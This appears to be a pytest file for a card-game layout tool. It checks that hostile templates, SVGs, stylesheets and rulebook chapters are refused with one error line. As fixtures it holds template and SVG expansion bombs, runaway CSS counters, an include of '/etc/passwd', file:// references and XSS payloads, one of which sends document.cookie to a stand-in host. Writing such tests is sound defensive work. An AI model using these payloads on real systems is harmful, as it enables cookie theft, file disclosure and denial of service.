"""Layouts, pictures and stylesheets from a stranger (issue 26): format and doubling bombs in
templates, documents too large for the typesetter, SVGs that multiply when drawn or reach
outside themselves, a counter style that prints without end, a page too large to picture. Each
ends, under the supervised program, in exit 2 and one line naming the layout file (and its
line), within the harness's time and memory, nothing written anywhere; `pnp check` refuses what
the build would."""

import io
import warnings

import pytest

from tests.test_attacks import SECRET, edit, project, refused  # noqa: F401 (project is a fixture)

VERSE = "layouts/verset/verse.html"
NAME = "{{ card.name }}"
CARDS_CSS = "layouts/verset/cards.css"


def listing(folder):
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*"))


def one_problem(project, tmp_path, *command) -> str:
    """The command refused: its one problem line, checked for what every attack must show."""
    before = listing(tmp_path)
    output = refused(project, *(command or ("check", "verset")))
    assert SECRET not in output
    assert listing(tmp_path) == before
    lines = [line.strip() for line in output.splitlines() if line.strip()]
    problems = [line for line in lines if not line.startswith("error: 1 problem") and "Le Dernier Verset:" not in line
                and not line.startswith("Tiny:")]
    assert len(problems) == 1, output
    return problems[0]


def line_of(project, relative, needle) -> int:
    return next(n for n, line in enumerate((project / relative).read_text().splitlines(), 1) if needle in line)


# --- templates: each operation sized before it runs ---------------------------------------------

# The subprocess runs one of each kind; tests/render/test_templates.py sizes every growing
# operation in-process.
TEMPLATE_BOMBS = {
    "a printf width": ('{{ "%0999999999d" % 1 }}', "MAX_TEMPLATE_STRING"),
    "a format width": ('{{ "{:>999999999}".format(1) }}', "MAX_TEMPLATE_STRING"),
    "the format filter": ('{{ "%0999999999d"|format(1) }}', "MAX_TEMPLATE_STRING"),
    "~ doubling in a loop": ('{% set ns = namespace(s="ab") %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}'
                             '{% endfor %}{{ ns.s|length }}', "MAX_TEMPLATE_STRING"),
    "a captured block doubling": ('{% set ns = namespace(s="ab") %}{% for i in range(40) %}{% set b %}{{ ns.s }}'
                                  '{{ ns.s }}{% endset %}{% set ns.s = b %}{% endfor %}', "MAX_TEMPLATE_STRING"),
    "indent": ('{{ ("\\n" * 999999)|indent(999999) }}', "MAX_TEMPLATE_STRING"),
    "replace": ('{{ ("a" * 999999)|replace("a", "b" * 999999) }}', "MAX_TEMPLATE_STRING"),
    "a number squared in a loop": ('{% set ns = namespace(n=999999) %}{% for i in range(40) %}'
                                   '{% set ns.n = ns.n * ns.n %}'
                                   '{% endfor %}', "MAX_TEMPLATE_DIGITS"),
}


STARTER_CARD = "layouts/tiny/card.html"


@pytest.mark.parametrize("bomb", sorted(TEMPLATE_BOMBS))
def test_a_template_bomb_is_refused_at_its_layout_line(tiny, tmp_path, bomb):
    """A template's sizes are the template's, whatever the game: on the starter game."""
    source, limit = TEMPLATE_BOMBS[bomb]
    edit(tiny.root, STARTER_CARD, NAME, source)
    line = one_problem(tiny.root, tmp_path, "check", "tiny")
    assert line.startswith(f"{STARTER_CARD}:{line_of(tiny.root, STARTER_CARD, source[:20])}:") and limit in line, line


def test_what_gets_past_the_sizes_meets_the_memory_cap(project, tmp_path):
    """A million-character string made afresh on each turn of a loop is within every size: the
    process's memory cap stops it, and the user reads which layout was rendering."""
    edit(project, VERSE, NAME, '{% set ns = namespace(l=[]) %}{% for i in range(250000) %}'
                               '{% set _ = ns.l.append("x" * 999999) %}{% endfor %}')
    before = listing(tmp_path)
    output = refused(project, "check", "verset", env_extra={"PNP_MAX_MEMORY_BYTES": "400000000"})
    errors = [line for line in output.splitlines() if line.strip()]
    assert len(errors) == 1 and f"{VERSE}: rendering the template" in errors[0] and "MAX_MEMORY_BYTES" in errors[0]
    assert listing(tmp_path) == before


def test_a_template_bomb_is_refused_by_the_build(project, tmp_path):
    edit(project, VERSE, NAME, '{{ "{:>999999999}".format(1) }}')
    line = one_problem(project, tmp_path, "build", "verset", "--jobs", "1", "--out", str(tmp_path / "out"))
    assert f"{VERSE}:" in line and "MAX_TEMPLATE_STRING" in line


# --- documents the typesetter would take minutes over -------------------------------------------

@pytest.mark.parametrize("element, limit", [("<div/>", "MAX_HTML_DEPTH"), ("<div></div>", "MAX_HTML_ELEMENTS")])
def test_a_hundred_thousand_elements_are_refused_before_layout(project, tmp_path, element, limit):
    """`<div/>` does not close a div in HTML: a hundred thousand of them nest (they once passed
    the nesting check, and took the typesetter 8 minutes)."""
    edit(project, VERSE, NAME, "{% for i in range(100000) %}" + element + "{% endfor %}")
    line = one_problem(project, tmp_path, "build", "verset", "--jobs", "1", "--out", str(tmp_path / "out"))
    assert f"{VERSE}:{line_of(project, VERSE, 'range(100000)')}:" in line and limit in line


def test_elements_spread_over_the_cards_are_counted_for_the_deck(project, tmp_path):
    """Each face is small; the deck's document, as the build hands it over, is not."""
    edit(project, VERSE, NAME, "{% for i in range(1500) %}<span></span>{% endfor %}")
    line = one_problem(project, tmp_path)
    assert f"{VERSE}:{line_of(project, VERSE, 'range(1500)')}:" in line and "MAX_HTML_ELEMENTS" in line
    assert "Verse cards" in line


def test_a_million_characters_of_text_are_refused_before_layout(project, tmp_path):
    edit(project, VERSE, NAME, '{{ "word " * 200000 }}')
    line = one_problem(project, tmp_path)
    assert line.startswith(f"{VERSE}:") and "MAX_DOCUMENT_TEXT" in line


# --- SVG: what it draws once expanded, and nothing outside itself --------------------------------

def nested_uses(levels: int = 39, per_level: int = 3) -> str:
    """117 <use> elements (under MAX_SVG_USES) that draw 3^39 rectangles."""
    return ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
            '<g id="a0"><rect width="1" height="1"/></g>'
            + "".join(f'<g id="a{i}">' + f'<use xlink:href="#a{i - 1}"/>' * per_level + "</g>"
                      for i in range(1, levels + 1)) + "</svg>")


def test_an_icon_of_nested_uses_under_the_count_is_refused(project, tmp_path):
    (project / "layouts/icons/wolf-head.svg").write_text(nested_uses())
    line = one_problem(project, tmp_path)
    assert "layouts/icons/wolf-head.svg" in line and "MAX_SVG_ELEMENTS" in line


def test_a_picture_of_nested_uses_is_refused_at_its_layout_line(project, tmp_path):
    (project / "layouts/verset/map.svg").write_text(nested_uses())
    edit(project, VERSE, NAME, '<img src="layouts/verset/map.svg">')
    line = one_problem(project, tmp_path)
    assert line.startswith(f"{VERSE}:{line_of(project, VERSE, 'map.svg')}:") and "MAX_SVG_ELEMENTS" in line


def test_an_inline_svg_of_nested_uses_is_refused_at_its_layout_line(project, tmp_path):
    edit(project, VERSE, NAME, nested_uses().replace("<svg ", "<svg class='bomb' ", 1))
    line = one_problem(project, tmp_path)
    assert line.startswith(f"{VERSE}:{line_of(project, VERSE, 'bomb')}:") and "MAX_SVG_ELEMENTS" in line


def test_a_use_that_draws_itself_is_refused(project, tmp_path):
    (project / "layouts/icons/wolf-head.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><g id="a"><use href="#a"/></g></svg>')
    assert "loop" in one_problem(project, tmp_path)


@pytest.mark.parametrize("reference", [
    '<image href="file://{secret}" width="10" height="10"/>',
    '<style>@import "/{secret}";</style>',
])
def test_an_svg_refers_only_to_its_own_parts(project, tmp_path, reference):
    (project / "layouts/icons/wolf-head.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        + reference.format(secret=tmp_path / "secret.txt") + "</svg>")
    line = one_problem(project, tmp_path)
    assert "layouts/icons/wolf-head.svg" in line and "its own parts" in line


# --- stylesheets: counters that print without end ----------------------------------------------

COUNTER_STYLES = {
    "a pad of a billion": "@counter-style bomb { system: cyclic; symbols: x; pad: 999999999 'y'; }",
    "a symbolic style with no range": "@counter-style bomb { system: symbolic; symbols: x; }",
}


@pytest.mark.parametrize("style", sorted(COUNTER_STYLES))
def test_a_counter_style_that_prints_without_end_is_refused(project, tmp_path, style):
    path = project / CARDS_CSS
    path.write_text(path.read_text() + "\n" + COUNTER_STYLES[style] + "\n")
    line = one_problem(project, tmp_path)
    assert line.startswith(f"{CARDS_CSS}:{len(path.read_text().splitlines())}:") and "MAX_COUNTER_TEXT" in line


def test_a_counter_style_in_a_layout_is_refused_at_its_line(project, tmp_path):
    edit(project, VERSE, NAME, "{{ card.name }}<style>\n"
                               "@counter-style bomb { system: symbolic; symbols: x; }\n</style>")
    line = one_problem(project, tmp_path, "build", "verset", "--jobs", "1", "--out", str(tmp_path / "out"))
    assert f"{VERSE}:{line_of(project, VERSE, '@counter-style')}:" in line and "MAX_COUNTER_TEXT" in line


def test_a_string_of_a_hundred_thousand_characters_in_a_stylesheet_is_refused(project, tmp_path):
    path = project / CARDS_CSS
    path.write_text(path.read_text() + "\n.trim::before { content: '" + "x" * 100_000 + "'; }\n")
    line = one_problem(project, tmp_path)
    assert line.startswith(f"{CARDS_CSS}:") and "MAX_CSS_STRING" in line


# --- what the typesetter says, in words ----------------------------------------------------------

def test_a_picture_a_stylesheet_names_is_checked_as_the_build_reads_it(project, tmp_path):
    """A stylesheet's background is fetched by the typesetter; the check reads it first and
    says why it cannot be drawn (the typesetter's own refusal says why too:
    tests/render/test_weasy_messages.py)."""
    (project / "layouts/verset/ground.dat").write_bytes(b"NOT A PICTURE")
    path = project / CARDS_CSS
    path.write_text(path.read_text() + '\n.trim { background-image: url("ground.dat"); }\n')
    line = one_problem(project, tmp_path, "build", "verset", "--jobs", "1", "--out", str(tmp_path / "out"))
    assert line.startswith(f"{CARDS_CSS}:{len(path.read_text().splitlines())}:") and "ground.dat" in line
    assert "cannot identify image file" in line and " at 0x" not in line


def test_fit_takes_sizes_in_the_check_as_in_the_build(project, tmp_path):
    edit(project, VERSE, "fit('name', 11, 8)", "fit('name', '11pt; color: red', 8)")
    line = one_problem(project, tmp_path)
    assert line.startswith(f"{VERSE}:") and "two sizes in points" in line


def test_a_picture_written_into_a_page_is_refused_by_the_check(project, tmp_path):
    edit(project, VERSE, NAME, '<img src="data:image/png;base64,iVBORw0KGgo=">')
    line = one_problem(project, tmp_path)
    assert line.startswith(f"{VERSE}:") and "data:" in line


# --- pictures of pages, bounded by the page's area ----------------------------------------------

def test_a_rulebook_page_one_millimetre_wide_and_ten_metres_tall_is_refused(project, tmp_path):
    """Once it made `pnp site`'s thumbnail of the rulebook take 4.6 GB; every picture of a page
    (the page checks, the ink measure, the site) grows with its area."""
    path = project / "layouts/verset/rulebook.css"
    path.write_text(path.read_text() + "\n@page { size: 1mm 10000mm; }\n")
    line = one_problem(project, tmp_path, "build", "verset", "--jobs", "1", "--out", str(tmp_path / "out"))
    assert line.startswith(f"layouts/verset/rulebook.css:{len(path.read_text().splitlines())}:")
    assert "LARGEST_PAPER_MM" in line


def one_page_pdf(width_pt: float, height_pt: float) -> bytes:
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pagesize=(width_pt, height_pt))
    page.drawString(0, 0, "x")
    page.showPage()
    page.save()
    return buffer.getvalue()


def test_a_page_one_millimetre_wide_and_ten_metres_tall_is_not_pictured():
    from pnp.errors import DataError
    from pnp.site.pictures import cover, scale_bar, thumbnail

    millimetre = 72 / 25.4
    tall, wide = one_page_pdf(millimetre, 10_000 * millimetre), one_page_pdf(10_000 * millimetre, millimetre)
    vast = one_page_pdf(5_000 * millimetre, 5_000 * millimetre)
    for picture in (lambda: thumbnail(tall, "a4/rulebook.pdf"), lambda: cover(wide, [0], "#000000", "a4/rulebook.pdf"),
                    lambda: scale_bar(vast, None, "a4/rulebook.pdf")):
        with pytest.raises(DataError) as refusal:
            picture()
        assert "a4/rulebook.pdf" in str(refusal.value) and "MAX_IMAGE_PIXELS" in str(refusal.value)
    assert thumbnail(one_page_pdf(595, 842))[1] == (240, 340)


def test_an_image_over_the_pixel_limit_is_a_reason_whatever_the_warning_filter(tmp_path):
    """The build turns Pillow's bomb warning into an error; the check still answers in words."""
    from PIL import Image

    from pnp.limits import MAX_IMAGE_PIXELS
    from pnp.picture_checks import image_problem
    from tests.test_attacks import huge_png

    for side in (8_000, 60_000):                   # over the limit by a little, and by far
        huge_png(tmp_path / f"{side}.png", side)
        previous = Image.MAX_IMAGE_PIXELS
        try:
            Image.MAX_IMAGE_PIXELS = MAX_IMAGE_PIXELS
            with warnings.catch_warnings():
                warnings.simplefilter("error", Image.DecompressionBombWarning)
                assert "MAX_IMAGE_PIXELS" in image_problem(tmp_path / f"{side}.png")
                assert "MAX_IMAGE_PIXELS" in image_problem((tmp_path / f"{side}.png").read_bytes())
        finally:
            Image.MAX_IMAGE_PIXELS = previous


# --- markup that would run in a reader's browser (issue 42) --------------------------------------

BROWSER_RUNS = {
    "a script in a French chapter": ("card_data/verset/rulebook/fr/02-cartes-et-mains.md",
                                     "<script>fetch('//x.example/?' + document.cookie)</script>"),
    "a handler in an English chapter": ("card_data/verset/rulebook/en/02-cards-and-hands.md",
                                        '<details open ontoggle="alert(1)">x</details>'),
    "a script link in a paragraph": ("card_data/verset/rulebook/en/03-the-campaign.md",
                                     'Read <a href="jav&#x09;ascript:alert(1)">this</a> first.'),
}


@pytest.mark.parametrize("name", sorted(BROWSER_RUNS))
def test_markup_that_runs_in_a_browser_is_refused_at_its_chapter_line(project, tmp_path, name):
    """The rules reference publishes the chapters on the download site: a script, a handler or a
    script URL is refused in every language's chapters, at its line."""
    relative, markup = BROWSER_RUNS[name]
    path = project / relative
    path.write_text(markup + "\n\n" + path.read_text())
    assert one_problem(project, tmp_path).startswith(f"{relative}:1: (html): expected text and markup that run")


def test_a_handler_in_an_example_layout_is_refused_by_the_build(project, tmp_path):
    edit(project, "layouts/verset/example.html", "<figure", '<figure onmouseover="alert(1)"')
    line = line_of(project, "layouts/verset/example.html", "onmouseover")
    out = tmp_path / "out"
    problem = one_problem(project, tmp_path, "build", "verset", "--paper", "a4", "--out", str(out))
    assert problem.startswith(f"layouts/verset/example.html:{line}:") and "onmouseover=" in problem
    assert not out.exists()


# --- what reached a traceback (issue 42): one line, exit 2, the layout's line ------------------

NESTED = "calc(" * 500 + "1px" + ")" * 500


@pytest.mark.parametrize("where", ["stylesheet", "style attribute"])
def test_values_nested_five_hundred_deep_are_refused_at_their_line(project, tmp_path, where):
    if where == "stylesheet":
        path = project / CARDS_CSS
        path.write_text(path.read_text() + f"\n.verse .name {{ width: {NESTED}; }}\n")
        expected = f"{CARDS_CSS}:{len(path.read_text().splitlines())}:"
    else:
        edit(project, VERSE, NAME, f'<span style="width: {NESTED}">{NAME}</span>')
        expected = f"{VERSE}:{line_of(project, VERSE, 'calc(')}:"
    problem = one_problem(project, tmp_path)
    assert problem.startswith(expected) and "MAX_CSS_NESTING" in problem


def test_an_include_of_a_file_outside_the_layouts_is_one_line(project, tmp_path):
    edit(project, VERSE, NAME, NAME + "{% include '/etc/passwd' %}")
    problem = one_problem(project, tmp_path)
    assert problem.startswith(f"{VERSE}:{line_of(project, VERSE, '/etc/passwd')}:") and "outside" in problem


@pytest.mark.parametrize("inside", ['<script>document.title = document.domain</script>',
                                    '<circle r="1" onmouseover="alert(1)"/>',
                                    '<foreignObject><iframe src="https://example.org"></iframe></foreignObject>'])
def test_an_icon_that_would_run_something_is_refused(project, tmp_path, inside):
    """The site publishes icons as files: opened on their own at the site's address, an SVG's
    script would run there (issue 42's review)."""
    (project / "layouts/icons/wolf-head.svg").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><path d="M0 0h8v8z"/>{inside}</svg>')
    line = one_problem(project, tmp_path)
    assert "layouts/icons/wolf-head.svg" in line and "runs nothing" in line
